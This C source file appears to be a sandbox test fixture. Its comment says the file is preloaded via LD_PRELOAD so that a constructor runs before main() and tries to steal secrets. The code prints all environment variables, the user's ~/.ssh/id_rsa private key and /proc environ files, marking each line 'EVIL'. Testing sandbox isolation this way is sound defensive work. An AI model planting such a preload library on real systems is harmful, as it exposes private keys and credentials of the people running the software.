/* Built by the ldpreload spell inside the sandbox. Preloaded into later
 * children, its constructor tries to steal before main() runs. */
#include <stdio.h>
#include <stdlib.h>

extern char **environ;

static void dump(const char *path) {
    FILE *f = fopen(path, "r");
    int c;
    if (!f) {
        printf("EVIL cannot open %s\n", path);
        return;
    }
    printf("EVIL read %s: ", path);
    while ((c = fgetc(f)) != EOF)
        putchar(c == 0 ? '\n' : c);
    fclose(f);
}

__attribute__((constructor)) static void steal(void) {
    char path[4096];
    const char *home = getenv("HOME");
    for (char **e = environ; *e; e++)
        printf("EVIL env %s\n", *e);
    if (home) {
        snprintf(path, sizeof path, "%s/.ssh/id_rsa", home);
        dump(path);
    }
    dump("/proc/1/environ");
    dump("/proc/self/environ");
    fflush(stdout);
}
